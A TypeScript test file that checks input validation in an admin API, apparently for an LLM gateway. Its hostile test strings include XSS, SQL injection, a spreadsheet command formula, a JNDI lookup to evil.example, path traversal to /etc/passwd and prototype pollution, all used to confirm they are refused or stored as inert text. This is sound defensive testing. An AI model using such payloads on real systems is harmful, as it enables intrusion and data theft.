import { afterAll, beforeAll, expect, test } from "vitest";

import { AdminServer, profileBody, sectorBody, userBody } from "./adminServer.ts";

let hub: AdminServer;

beforeAll(async () => {
  hub = await AdminServer.start();
});
afterAll(async () => {
  await hub.close();
  expect(hub.errors).toEqual([]);
});

const upstreamBody = {
  name: "lab",
  url: "http://127.0.0.1:9",
  format: "openai",
  is_active: true,
};

const fields = [
  ["POST", "/sectors", sectorBody, "name"],
  ["POST", "/profiles", profileBody, "name"],
  ["POST", "/users", userBody, "name"],
  ["POST", "/users", userBody, "login"],
  ["POST", "/tokens", { name: "t" }, "name"],
  ["POST", "/me/tokens", { name: "t" }, "name"],
  ["POST", "/upstreams", upstreamBody, "name"],
  ["POST", "/upstreams", upstreamBody, "url"],
  ["PATCH", "/sectors/sector_default", {}, "name"],
  ["PATCH", "/settings", {}, "time_zone"],
  ["PUT", "/models/some-model", { tiers: [], is_active: true }, "name"],
] as const;

const hostile = [
  ["a NUL", "a\u0000b"],
  ["a line break", "a\nb"],
  ["an escape sequence", "a\u001b[31mb"],
  ["a C1 control", "a\u0085b"],
  ["text turned around", "a\u202egpj.exe"],
  ["an isolate", "a\u2066b\u2069"],
  ["a zero-width space", "a\u200bb"],
  ["a byte order mark", "\ufeffa"],
  ["half a surrogate pair", "a\ud800"],
  ["nothing but joiners", "\u200d\u200c"],
  ["hidden tags", "a\u{e0041}b"],
  ["2,501 characters", "x".repeat(2_501)],
  ["nothing but spaces", "   "],
  ["a number", 5],
  ["null", null],
  ["a list", ["a"]],
] as const;

for (const [method, path, body, field] of fields) {
  // A model whose name is null has the one that its upstream gives it.
  const refused = hostile.filter(([, value]) => value !== null || !path.startsWith("/models"));
  test.each(refused)(`${method} ${path} refuses %s as ${field}, and names it`, async (_, value) => {
    const { status, body: answer } = await hub.ask(method, path, { ...body, [field]: value });
    expect([status, answer.error.param]).toEqual([400, field]);
  });
}

test.each([
  "<img src=x onerror=alert(1)>",
  "'; DROP TABLE record; --",
  "=cmd|' /C calc'!A0",
  "${jndi:ldap://evil.example}",
  "команда 团队 فريق 👩‍💻",
  "../../etc/passwd",
  "{{constructor.constructor('return 1')()}}",
])("what is only text stays the text that it is: %s", async (name) => {
  const made = await hub.ask("POST", "/sectors", { name });
  expect([made.status, made.body.name]).toEqual([201, name]);
  expect((await hub.ask("GET", `/sectors/${made.body.id}`)).body.name).toBe(name);
});

test("spaces at the edges of a name are taken away, and nothing else", async () => {
  expect((await hub.ask("POST", "/sectors", { name: "  Two  words " })).body.name).toBe(
    "Two  words",
  );
});

test.each([
  ["not JSON", "{", "invalid_json"],
  ["nothing", "", "invalid_json"],
  ["a list", "[]", "invalid_value"],
  ["a word", '"name"', "invalid_value"],
  ["null", "null", "invalid_value"],
  ["a key that JavaScript has a meaning for", '{"__proto__":{"name":"x"}}', "invalid_value"],
  ["a thousand levels", `${'{"a":'.repeat(1_000)}1${"}".repeat(1_000)}`, "invalid_value"],
])("a body that is %s is refused", async (_, body, code) => {
  for (const [method, path] of [
    ["POST", "/sectors"],
    ["PATCH", "/sectors/sector_default"],
    ["POST", "/session"],
  ] as const) {
    const answer = await hub.ask(method, path, body);
    expect([path, answer.status, answer.body.error.code]).toEqual([path, 400, code]);
  }
});

test("a field's name that is written with an escape is that field, whatever was sent before", async () => {
  // V8 can take such a key for one of an earlier text: nodejs/node#63785.
  await hub.ask("POST", "/tokens", String.raw`{"name":"t","\\\\u00":2}`);
  const { status, body } = await hub.ask(
    "POST",
    "/tokens",
    String.raw`{"name":"t","\u0075ser_id":"user_admin"}`,
  );
  expect([status, body["user_id"]]).toEqual([201, "user_admin"]);
});

test("bytes that are no UTF-8 are refused", async () => {
  const response = await fetch(`${hub.url}/hub/admin/v1/session`, {
    method: "POST",
    body: new Uint8Array([0x22, 0xff, 0x22]),
  });
  expect(response.status).toBe(400);
});

test("a body of more than 1 MB is refused", async () => {
  const { status } = await hub.ask("POST", "/sectors", { name: "x".repeat(1024 * 1024) });
  expect(status).toBe(413);
});

test("an error never quotes what was sent", async () => {
  const secret = "sk_hub_pasted_by_mistake";
  const answers = [
    await hub.ask("POST", "/users", { ...userBody, password: secret, role: secret }),
    await hub.ask("POST", "/sectors", `{"name": ${secret}`),
    await hub.ask("POST", "/session", { login: secret, password: secret }),
  ];
  expect(answers.map(({ status }) => status)).toEqual([400, 400, 401]);
  expect(JSON.stringify(answers)).not.toContain(secret);
});

test.each(["%", "%zz", "%ff"])("an id that is encoded wrongly is refused: %s", async (id) => {
  expect((await hub.ask("GET", `/sectors/${id}`)).status).toBe(400);
});

test.each(["a%00b", "..%2f..", "%F0%9F%92%A9", "x".repeat(5_000), "__proto__"])(
  "an id that cannot be there is simply not there: %s",
  async (id) => {
    for (const kind of ["sectors", "users", "tokens", "budgets", "upstreams"]) {
      expect((await hub.ask("GET", `/${kind}/${id}`)).status).toBe(404);
      expect((await hub.ask("DELETE", `/${kind}/${id}`)).status).toBe(404);
    }
  },
);

function profileThatForces(stop: string): object {
  return { ...profileBody, policy: { ...profileBody.policy, forced: { stop: [stop] } } };
}

test("a forced parameter may be a line break, and no longer than a page", async () => {
  expect((await hub.ask("POST", "/profiles", profileThatForces("\n"))).status).toBe(201);
  const long = await hub.ask("POST", "/profiles", {
    ...profileThatForces("x".repeat(10_000)),
    name: "long",
  });
  expect([long.status, long.body.error.param]).toEqual([400, "policy"]);
});

test("numbers beyond what can be counted are refused", async () => {
  for (const value of [-1, 0.5, 1e300, "1"]) {
    const body = { ...profileBody, name: "n", rate_limits: { requests_per_minute: value } };
    const answer = await hub.ask("POST", "/profiles", body);
    expect([value, answer.status]).toEqual([value, 400]);
  }
  for (const limit of ["-1", "1e9", "0.0000001", "NaN", "1000000000", 5]) {
    const body = { scope: "sector", subject_id: "sector_default", unit: "money", warn_at: [] };
    expect((await hub.ask("POST", "/budgets", { ...body, limit })).body.error.param).toBe("limit");
  }
});
